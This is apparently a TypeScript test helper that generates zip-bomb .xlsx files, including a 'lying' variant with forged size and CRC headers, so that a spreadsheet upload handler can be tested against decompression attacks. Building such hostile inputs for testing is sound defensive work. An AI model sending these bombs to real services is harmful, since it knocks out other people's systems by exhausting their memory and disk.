import { constants, crc32, deflateRawSync } from 'node:zlib';

/**
 * Hostile workbooks for the upload tests and the attack script: a real .xlsx (content types,
 * workbook, sheet) whose sheet XML inflates to `inflatedBytes` (gigabytes) from about a
 * thousandth of that, built without ever holding the inflated bytes: one deflated megabyte of
 * spaces, flushed so it stands alone, is repeated. `declared` 'honest' writes the true size in
 * the zip headers; 'lying' writes a small one, as an attacker would to pass a header check.
 */
export type ZipBombOptions = { inflatedBytes: number; declared: 'honest' | 'lying' };

type Entry = { name: string; data: Buffer; size: number; crc: number };

const chunkBytes = 1024 * 1024;

function stored(name: string, text: string): Entry {
  const raw = Buffer.from(text);
  return { name, data: deflateRawSync(raw), size: raw.byteLength, crc: crc32(raw) };
}

function bombSheet(inflatedBytes: number, declared: 'honest' | 'lying'): Entry {
  const head = Buffer.from(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
      '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>',
  );
  const tail = Buffer.from('</sheetData></worksheet>');
  const spaces = Buffer.alloc(chunkBytes, 0x20);
  const repeats = Math.max(1, Math.floor((inflatedBytes - head.byteLength - tail.byteLength) / chunkBytes));
  const flushed = { finishFlush: constants.Z_FULL_FLUSH };
  const spacesDeflated = deflateRawSync(spaces, flushed);
  const parts = [deflateRawSync(head, flushed)];
  let crc = crc32(head);
  for (let i = 0; i < repeats; i++) {
    parts.push(spacesDeflated);
    if (declared === 'honest') crc = crc32(spaces, crc);
  }
  parts.push(deflateRawSync(tail));
  crc = crc32(tail, crc);
  const size = head.byteLength + repeats * chunkBytes + tail.byteLength;
  return {
    name: 'xl/worksheets/sheet1.xml',
    data: Buffer.concat(parts),
    size: declared === 'honest' ? size : 4096,
    crc: declared === 'honest' ? crc : 0,
  };
}

/** A zip archive of deflated entries (no zip64: every size must stay under 4 GiB). */
function zip(entries: Entry[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0, 6);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(0, 10);
    local.writeUInt32LE(entry.crc >>> 0, 14);
    local.writeUInt32LE(entry.data.byteLength, 18);
    local.writeUInt32LE(entry.size, 22);
    local.writeUInt16LE(name.byteLength, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(0, 12);
    central.writeUInt32LE(entry.crc >>> 0, 16);
    central.writeUInt32LE(entry.data.byteLength, 20);
    central.writeUInt32LE(entry.size, 24);
    central.writeUInt16LE(name.byteLength, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    centrals.push(central, name);
    offset += local.byteLength + name.byteLength + entry.data.byteLength;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.byteLength, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, directory, end]));
}

export function zipBombXlsx({ inflatedBytes, declared }: ZipBombOptions): Uint8Array {
  return zip([
    stored(
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    stored(
      '_rels/.rels',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
    stored(
      'xl/workbook.xml',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Gifts" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    stored(
      'xl/_rels/workbook.xml.rels',
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
    bombSheet(inflatedBytes, declared),
  ]);
}
